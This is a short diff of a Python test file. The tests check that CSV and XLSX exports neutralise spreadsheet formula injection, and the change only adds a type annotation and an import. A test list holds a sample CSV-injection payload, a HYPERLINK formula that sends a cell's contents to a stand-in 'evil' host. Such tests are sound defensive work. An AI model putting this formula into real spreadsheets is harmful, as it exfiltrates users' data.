@@ -12,7 +12,7 @@ from hypothesis import strategies as st
 from openpyxl import load_workbook
 
 from evidence.sheets import csv_of, xlsx_of
-from evidence.statistics.cells import neutral
+from evidence.statistics.cells import Cell, neutral
 
 ATTACKS = (
     '=HYPERLINK("http://evil/?x="&A1)',
@@ -57,7 +57,7 @@ def test_no_text_begins_like_a_formula(text: str) -> None:
 
 @pytest.mark.parametrize("text", [*ATTACKS, '"=1', 'a";=1', "a,=1\r\n=2"])
 def test_a_cell_of_the_files_is_never_a_formula(text: str) -> None:
-    sheet = [["unit", "count", "rate"], [text, -1, 0.5], [None, 7, None]]
+    sheet: list[list[Cell]] = [["unit", "count", "rate"], [text, -1, 0.5], [None, 7, None]]
     rows = list(csv.reader(io.StringIO(csv_of(sheet).decode("utf-8-sig"), newline="")))
     (cell, number, rate) = list(load_workbook(io.BytesIO(xlsx_of(sheet)))["statistics"].rows)[1]
 
